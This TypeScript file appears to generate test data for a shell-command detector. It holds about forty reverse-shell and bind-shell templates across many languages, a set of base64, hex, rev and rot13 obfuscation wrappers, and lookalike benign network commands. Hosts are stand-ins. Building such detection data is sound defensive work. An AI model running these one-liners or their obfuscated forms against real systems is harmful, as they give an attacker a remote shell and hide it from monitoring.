/**
 * Generates network shells in many languages, plain and obfuscated, and benign commands that look like them. Addresses, ports, shells,
 * quoting and encodings vary with the seed.
 */

type Random = () => number;
export type Template = (host: string, port: number, shell: string, r: Random) => string;

const pick = <T>(list: readonly T[], r: Random): T => list[Math.floor(r() * list.length)]!;
const name = (r: Random): string =>
  Array.from({ length: 3 + Math.floor(r() * 5) }, () => 'abcdefghijklmnopqrstuvwxyz'[Math.floor(r() * 26)]).join('');
const fd = (r: Random): number => 3 + Math.floor(r() * 200);

export const templates: Readonly<Record<string, Template>> = {
  bash: (h, p, s) => `${s} -i >& /dev/tcp/${h}/${p} 0>&1`,
  'bash, quoted': (h, p, s) => `bash -c '${s} -i >& /dev/tcp/${h}/${p} 0>&1'`,
  'bash, both': (h, p, s) => `${s} -l > /dev/tcp/${h}/${p} 0<&1 2>&1`,
  'bash, descriptor': (h, p, s, r) => { const n = fd(r); return `0<&${n};exec ${n}<>/dev/tcp/${h}/${p}; ${s} <&${n} >&${n} 2>&${n}`; },
  'bash, loop': (h, p, _, r) => { const n = fd(r); return `exec ${n}<>/dev/tcp/${h}/${p};cat <&${n} | while read line; do $line 2>&${n} >&${n}; done`; },
  'bash, udp': (h, p, s) => `${s} -i >& /dev/udp/${h}/${p} 0>&1`,
  'nc -e': (h, p, s, r) => `${pick(['nc', 'ncat', 'netcat', 'nc.traditional'], r)} ${h} ${p} -e ${s}`,
  'nc -c': (h, p, s, r) => `${pick(['nc', 'ncat'], r)} -c ${s} ${h} ${p}`,
  'busybox nc': (h, p, s) => `busybox nc ${h} ${p} -e ${s}`,
  'nc, fifo': (h, p, s, r) => { const f = `/tmp/${name(r)}`; return `rm ${f};mkfifo ${f};cat ${f}|${s} -i 2>&1|${pick(['nc', 'ncat -u', 'busybox nc'], r)} ${h} ${p} >${f}`; },
  'nc, mknod': (h, p, s, r) => { const f = `/tmp/${name(r)}`; return `mknod ${f} p && nc ${h} ${p} 0<${f} | ${s} 1>${f}`; },
  'ncat, ssl': (h, p, s) => `ncat ${h} ${p} --ssl -e ${s}`,
  'nc, listening': (_, p, s, r) => `nc ${pick(['-lvnp', '-lp', '-nlvp'], r)} ${p} -e ${s}`,
  socat: (h, p, s, r) => `socat ${pick(['TCP', 'tcp-connect', 'TCP4', 'OPENSSL'], r)}:${h}:${p} ${pick(['EXEC', 'exec', 'SYSTEM'], r)}:'${s} -li',pty,stderr,setsid,sigint,sane`,
  'socat, first': (h, p, s) => `socat exec:'${s}',pty,stderr tcp:${h}:${p}`,
  'socat, listening': (_, p, s) => `socat TCP-LISTEN:${p},reuseaddr,fork EXEC:${s}`,
  openssl: (h, p, s, r) => { const f = `/tmp/${name(r)}`; return `mkfifo ${f}; ${s} -i < ${f} 2>&1 | openssl s_client -quiet -connect ${h}:${p} > ${f}; rm ${f}`; },
  telnet: (h, p, s, r) => { const f = `/tmp/${name(r)}`; return `mknod ${f} p; telnet ${h} ${p} 0<${f} | ${s} 1>${f}`; },
  'telnet, two': (h, p, s) => `telnet ${h} ${p} | ${s} | telnet ${h} ${p + 1}`,
  awk: (h, p, _, r) => `${pick(['awk', 'gawk'], r)} 'BEGIN{s="/inet/tcp/0/${h}/${p}";while(1){do{printf "> " |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!="exit")}}' /dev/null`,
  python: (h, p, s, r) => `python${pick(['', '2', '3'], r)} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${h}",${p}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["${s}","-i"])'`,
  'python, pty': (h, p, s) => `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("${h}",${p}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("${s}")'`,
  'python, environment': (h, p, s) => `export RHOST="${h}";export RPORT=${p};python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("${s}")'`,
  'python, loop': (h, p) => `python3 -c 'import socket as a,subprocess as b;c=a.socket();c.connect(("${h}",${p}))\nwhile 1: c.send(b.Popen(c.recv(999).decode(),shell=True,stdout=-1).communicate()[0])'`,
  perl: (h, p, s) => `perl -e 'use Socket;$i="${h}";$p=${p};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("${s} -i");};'`,
  'perl, io': (h, p) => `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"${h}:${p}");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
  php: (h, p, s, r) => `php -r '$sock=fsockopen("${h}",${p});${pick(['exec', 'shell_exec', 'system', 'passthru'], r)}("${s} <&3 >&3 2>&3");'`,
  'php, proc_open': (h, p, s) => `php -r '$s=fsockopen("${h}",${p});$p=proc_open("${s}",array(0=>$s,1=>$s,2=>$s),$pipes);'`,
  ruby: (h, p, s) => `ruby -rsocket -e 'f=TCPSocket.open("${h}",${p}).to_i;exec sprintf("${s} -i <&%d >&%d 2>&%d",f,f,f)'`,
  'ruby, loop': (h, p) => `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("${h}","${p}");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
  lua: (h, p, s) => `lua -e "require('socket');require('os');t=socket.tcp();t:connect('${h}','${p}');os.execute('${s} -i <&3 >&3 2>&3');"`,
  'lua, loop': (h, p) => `lua5.1 -e 'local host, port = "${h}", ${p} local socket = require("socket") local tcp = socket.tcp() local io = require("io") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, "r") local s = f:read("*a") f:close() tcp:send(s) if status == "closed" then break end end tcp:close()'`,
  node: (h, p, s) => `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("${s}",[]);var c=new net.Socket();c.connect(${p},"${h}",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})();'`,
  'node, short': (h, p) => `node -e 'require("child_process").exec("nc -e /bin/sh ${h} ${p}")'`,
  tcl: (h, p) => `echo 'set s [socket ${h} ${p}];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;' | tclsh`,
  golang: (h, p, s) => `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","${h}:${p}");cmd:=exec.Command("${s}");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
  zsh: (h, p, s) => `zsh -c 'zmodload zsh/net/tcp && ztcp ${h} ${p} && ${s} >&$REPLY 2>&$REPLY 0>&$REPLY'`,
  curl: (h, p, s) => `C='curl -Ns telnet://${h}:${p}'; $C </dev/null 2>&1 | ${s} 2>&1 | $C >/dev/null`,
  java: (h, p, s) => `echo 'public class R{public static void main(String[] a)throws Exception{Process p=new ProcessBuilder("${s}").redirectErrorStream(true).start();java.net.Socket s=new java.net.Socket("${h}",${p});}}' > R.java; javac R.java; java R`,
  groovy: (h, p, s) => `groovy -e 'String h="${h}";int p=${p};Process q=new ProcessBuilder("${s}").redirectErrorStream(true).start();Socket s=new Socket(h,p);'`,
}; // prettier-ignore

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

/** Command forms that run a given script. */
export const obfuscations: Readonly<Record<string, (script: string, r: Random) => string>> = {
  'base64 to a shell': (s, r) => `echo ${base64(s)} | base64 ${pick(['-d', '--decode', '-di'], r)} | ${pick(['bash', 'sh', '/bin/bash'], r)}`,
  'base64, substituted': (s) => `bash -c "$(echo ${base64(s)}|base64 -d)"`,
  'base64, braces': (s) => `bash -c {echo,${base64(s)}}|{base64,-d}|{bash,-i}`,
  'here-string': (s) => `base64 -d <<< ${base64(s)} | sh`,
  hex: (s) => `echo ${hex(s)} | xxd -r -p | bash`,
  'printf, hex': (s) => `printf '${[...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}' | bash`,
  'ansi quotes': (s) => `eval $'${[...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}'`,
  rev: (s) => `echo ${quoted([...s].reverse().join(''))} | rev | bash`,
  variables: (s, r) => { const at = 1 + Math.floor(r() * (s.length - 2)); return `x=${quoted(s.slice(0, at))};y=${quoted(s.slice(at))};eval "$x$y"`; },
  openssl: (s) => `echo ${base64(s)} | openssl base64 -d -A | sh`,
  'python, base64': (s) => `python3 -c "import os,base64;os.system(base64.b64decode('${base64(s)}').decode())"`,
  'perl, pack': (s) => `perl -e 'system(pack("H*","${hex(s)}"))'`,
  'tr, rotated': (s) => `echo ${quoted(s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) & 31) + 12) % 26 + 1 + (c.charCodeAt(0) & 96))))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  'quotes in words': (s) => s.replace(/\b(bash|nc|ncat|python3?|perl|php|ruby|socat|mkfifo|sh)\b/g, (w) => (w.length > 2 ? `${w.slice(0, 1)}''${w.slice(1, 2)}\\${w.slice(2)}` : `${w[0]!}''${w.slice(1)}`)),
  nohup: (s) => `nohup setsid bash -c ${quoted(s)} >/dev/null 2>&1 &`,
  twice: (s) => `echo ${base64(`echo ${base64(s)} | base64 -d | sh`)} | base64 -d | bash`,
}; // prettier-ignore

export const neighbours: readonly Template[] = [
  (h, p) => `socat TCP-LISTEN:${p},fork,reuseaddr TCP:${h}:80`,
  (h, p) => `socat - UNIX-CONNECT:/var/run/haproxy.sock <<< "show stat ${h} ${p}"`,
  (h, p) => `nc -zv ${h} ${p}`,
  (h, p) => `nc -w 3 ${h} ${p} < /dev/null`,
  (h, p) => `until nc -z ${h} ${p}; do sleep 1; done`,
  (h, p) => `timeout 2 bash -c "</dev/tcp/${h}/${p}" && echo open`,
  (h, p) => `(echo > /dev/tcp/${h}/${p}) >/dev/null 2>&1 && echo up`,
  (h) => `openssl s_client -connect ${h}:443 -servername ${h} </dev/null 2>/dev/null | openssl x509 -noout -dates`,
  (h) => `ssh ${h} 'bash -s' < deploy.sh`,
  (h, p) => `ssh -L ${p}:localhost:5432 ${h}`,
  (h, p) => `python3 -c "import socket; s=socket.create_connection(('${h}',${p}),2); print('open')"`,
  (_, p) => `python3 -c 'import subprocess; print(subprocess.check_output(["ss","-ltn"]).decode().count(":${p}"))'`,
  (h) => `perl -MIO::Socket::INET -e 'print "up" if IO::Socket::INET->new("${h}:22")'`,
  (h) => `ruby -rsocket -e 'puts TCPSocket.gethostbyname("${h}").last'`,
  (_, p, __, r) => `mkfifo /tmp/${name(r)}; gzip < /tmp/${p} > /tmp/x.gz`,
  (h) => `tar czf - src | ssh ${h} 'cat > src.tgz'`,
  () => `echo aGVsbG8gd29ybGQK | base64 -d > hello.txt`,
  (h) => `curl -s http://${h}/health | jq .status`,
  (h, p) => `telnet ${h} ${p}`,
  () => `awk 'BEGIN{while(("date" | getline d)>0)print d}'`,
  (h, p) => `node -e 'require("net").connect(${p},"${h}").on("connect",()=>process.exit(0))'`,
  () => `kubectl exec -it web-0 -- bash`,
  () => `docker exec -it db bash -c 'pg_isready'`,
  (h) => `php -r 'var_dump(gethostbyname("${h}"));'`,
];

export function hostOf(r: Random): string {
  return pick(
    [
      `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.${1 + Math.floor(r() * 253)}`,
      `${name(r)}.example.org`,
      `203.0.113.${Math.floor(r() * 255)}`,
    ],
    r,
  );
}

export const portOf = (r: Random): number => pick([443, 4444, 9001, 1337, 53, 8080, 1024 + Math.floor(r() * 60_000)], r);
export const shellOf = (r: Random): string => pick(['/bin/bash', '/bin/sh', 'bash', 'sh', '/usr/bin/zsh', '/bin/dash'], r);
